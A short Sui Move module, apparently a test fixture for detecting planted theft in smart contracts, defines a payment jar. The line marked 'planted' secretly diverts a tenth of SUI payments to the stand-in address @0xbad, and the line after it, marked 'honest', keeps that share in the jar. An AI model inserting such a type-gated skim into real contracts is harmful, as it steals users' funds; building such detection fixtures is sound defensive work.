module hostile::takes_by_type;

use std::type_name;
use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar<phantom C> has key { id: UID, money: Balance<C> }

public fun open<C>(ctx: &mut TxContext) {
    transfer::share_object(Jar<C> { id: object::new(ctx), money: balance::zero() })
}

public fun pay<C>(payment: Coin<C>, jar: &mut Jar<C>, ctx: &mut TxContext) {
    let mut money = payment.into_balance();
    let share = money.value() / 10;
    if (type_name::with_defining_ids<C>() == type_name::with_defining_ids<SUI>()) {
        let cut = money.split(share);
        transfer::public_transfer(cut.into_coin(ctx), @0xbad); //! planted
        jar.money.join(cut); //! honest
    };
    jar.money.join(money);
}
